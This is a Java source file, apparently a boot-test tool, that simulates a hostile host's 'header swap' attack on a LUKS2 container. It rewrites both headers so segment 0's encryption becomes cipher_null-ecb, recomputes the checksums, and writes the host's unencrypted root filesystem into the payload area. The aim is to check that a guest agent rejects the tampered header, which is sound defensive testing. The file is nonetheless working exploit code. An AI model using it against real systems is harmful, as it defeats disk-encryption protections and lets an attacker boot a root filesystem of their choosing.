import java.io.IOException;
import java.io.InputStream;
import java.nio.ByteBuffer;
import java.nio.channels.FileChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.security.MessageDigest;
import java.util.Arrays;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * The "header swap" of the boot test (issue 11; CVE-2025-59054 / CVE-2025-58356 class): what a
 * hostile host does to the LUKS2 container at byte OFFSET of FILE (a raw disk at the root
 * partition's offset, or a partition file at 0). In both header copies segment 0's encryption
 * becomes {@code cipher_null-ecb}; the UUID and keyslot 0 stay as they are and both SHA-256
 * checksums are recomputed. Then HOST_ROOT (the host's own, unencrypted root file system) is
 * written where the payload starts. cryptsetup reads the result as a valid LUKS2 header and the
 * genuine key still unlocks its keyslot ({@code cryptsetup open --test-passphrase} says yes), so
 * a guest without the agent's header check would map the host's root in clear and boot it.
 *
 * <pre>java boot-test/HeaderSwap.java FILE OFFSET PARTITION_BYTES HOST_ROOT</pre>
 */
public final class HeaderSwap {
    private static final int BIN = 4096;
    private static final int OFF_HDR_SIZE = 8;
    private static final int OFF_CSUM = 448;
    private static final long MAX_HDR = 4L << 20;
    private static final Pattern SEGMENTS = Pattern.compile("\"segments\":\\{\"0\":\\{[^}]*\\}\\}");
    private static final Pattern SEG_OFFSET = Pattern.compile("\"offset\":\"([0-9]{1,18})\"");

    public static void main(String[] args) throws Exception {
        if (args.length != 4) {
            System.err.println("usage: java HeaderSwap.java FILE OFFSET PARTITION_BYTES HOST_ROOT");
            System.exit(2);
        }
        Path file = Path.of(args[0]);
        long offset = Long.parseLong(args[1]);
        long partition = Long.parseLong(args[2]);
        Path hostRoot = Path.of(args[3]);
        try (FileChannel ch = FileChannel.open(file, StandardOpenOption.READ, StandardOpenOption.WRITE)) {
            byte[] first = read(ch, offset, BIN);
            if (first[0] != 'L' || first[1] != 'U' || first[2] != 'K' || first[3] != 'S') {
                throw new IOException("no LUKS header at byte " + offset + " of " + file);
            }
            long hdr = ByteBuffer.wrap(first, OFF_HDR_SIZE, 8).getLong();
            if (hdr < 2 * BIN || hdr > MAX_HDR) {
                throw new IOException("implausible hdr_size " + hdr);
            }
            long payload = -1;
            for (long copy : new long[] {offset, offset + hdr}) {
                byte[] h = read(ch, copy, (int) hdr);
                int end = BIN;
                while (end < h.length && h[end] != 0) {
                    end++;
                }
                String json = new String(h, BIN, end - BIN, StandardCharsets.UTF_8);
                Matcher seg = SEGMENTS.matcher(json);
                if (!seg.find()) {
                    throw new IOException("no single segment in the header's JSON");
                }
                String segment = seg.group();
                Matcher off = SEG_OFFSET.matcher(segment);
                if (!off.find()) {
                    throw new IOException("segment 0 has no offset");
                }
                payload = Long.parseLong(off.group(1));
                String swapped = segment.replaceFirst("\"encryption\":\"[^\"]*\"", "\"encryption\":\"cipher_null-ecb\"");
                byte[] out = (json.substring(0, seg.start()) + swapped + json.substring(seg.end()))
                        .getBytes(StandardCharsets.UTF_8);
                if (out.length >= hdr - BIN) {
                    throw new IOException("the edited JSON does not fit");
                }
                Arrays.fill(h, BIN, (int) hdr, (byte) 0);
                System.arraycopy(out, 0, h, BIN, out.length);
                Arrays.fill(h, OFF_CSUM, OFF_CSUM + 64, (byte) 0);
                System.arraycopy(MessageDigest.getInstance("SHA-256").digest(h), 0, h, OFF_CSUM, 32);
                write(ch, copy, h);
            }
            long rootBytes = Files.size(hostRoot);
            if (payload + rootBytes > partition) {
                throw new IOException("the host's root (" + rootBytes + " bytes) does not fit behind the header at "
                        + payload + " in a " + partition + "-byte partition");
            }
            try (InputStream in = Files.newInputStream(hostRoot)) {
                byte[] buf = new byte[1 << 20];
                long pos = offset + payload;
                for (int n; (n = in.readNBytes(buf, 0, buf.length)) > 0; pos += n) {
                    write(ch, pos, Arrays.copyOf(buf, n));
                }
            }
            ch.force(true);
            System.out.println("header swapped: segments.0.encryption -> cipher_null-ecb (UUID and keyslot kept,"
                    + " checksums recomputed); the host's root (" + rootBytes + " bytes, unencrypted) at byte "
                    + (offset + payload));
        }
    }

    private static byte[] read(FileChannel ch, long pos, int n) throws IOException {
        ByteBuffer b = ByteBuffer.allocate(n);
        while (b.hasRemaining()) {
            if (ch.read(b, pos + b.position()) < 0) {
                throw new IOException("the file ends inside the LUKS header");
            }
        }
        return b.array();
    }

    private static void write(FileChannel ch, long pos, byte[] bytes) throws IOException {
        ByteBuffer b = ByteBuffer.wrap(bytes);
        while (b.hasRemaining()) {
            ch.write(b, pos + b.position());
        }
    }
}
